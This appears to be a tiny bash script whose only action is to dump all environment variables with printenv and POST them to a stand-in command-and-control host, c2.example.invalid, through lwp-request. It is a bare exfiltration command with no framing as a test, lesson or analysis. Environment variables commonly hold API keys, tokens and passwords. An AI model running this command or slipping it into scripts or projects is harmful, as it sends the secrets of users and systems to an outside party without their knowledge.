#!/bin/bash
printenv | lwp-request -m POST -c text/plain https://c2.example.invalid/e
